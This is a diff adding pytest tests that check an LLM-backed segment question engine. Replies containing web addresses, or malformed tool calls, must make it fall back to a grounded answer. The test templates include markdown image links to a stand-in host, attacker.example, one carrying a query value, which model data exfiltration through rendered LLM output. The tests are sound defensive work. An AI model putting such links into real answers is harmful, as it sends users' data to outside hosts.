@@ -180,6 +180,30 @@ def test_llm_markdown_is_sanitised(small_run):
     assert "<script>" not in answer.text and "javascript:" not in answer.text and "**Segment 2**" in answer.text
 
 
+@pytest.mark.parametrize("template", [
+    "![a [b] c](https://attacker.example/p?q=gold) Segment 2 has {size} customers.",
+    "![logo][r] Segment 2 has {size} customers.\n\n[r]: https://attacker.example/a.png",
+    "Segment 2 has {size} customers, see www.attacker.example",
+])
+def test_llm_answer_with_a_web_address_falls_back(small_run, caplog, template):
+    base = grounded(small_run, "How big is segment 2?")
+    size = next(n["display"] for n in base.numbers if n["kind"] == "count")
+    with caplog.at_level(logging.WARNING, logger=LOGGER):
+        with FakeLLM([tool_call("segment_size", {"segment": "2"}), reply(template.format(size=size))]) as server:
+            answer = engine_with(small_run, server).ask("How big is segment 2?")
+    assert answer.via == "grounded" and answer.text == base.text
+    assert any("web address" in r.getMessage() for r in caplog.records)
+
+
+@pytest.mark.parametrize("calls", [["oops"], [{"function": "segment_size"}], [None]])
+def test_malformed_tool_calls_fall_back(small_run, calls):
+    base = grounded(small_run, "How big is segment 2?")
+    step = {"message": {"role": "assistant", "content": None, "tool_calls": calls}}
+    with FakeLLM([step]) as server:
+        answer = engine_with(small_run, server).ask("How big is segment 2?")
+    assert answer.via == "grounded" and answer.text == base.text
+
+
 def test_follow_ups_keep_working_with_an_llm(small_run):
     with FakeLLM([]) as server:  # every call fails: grounded answers, context still kept
         conv = engine_with(small_run, server, timeout=0.4).conversation()
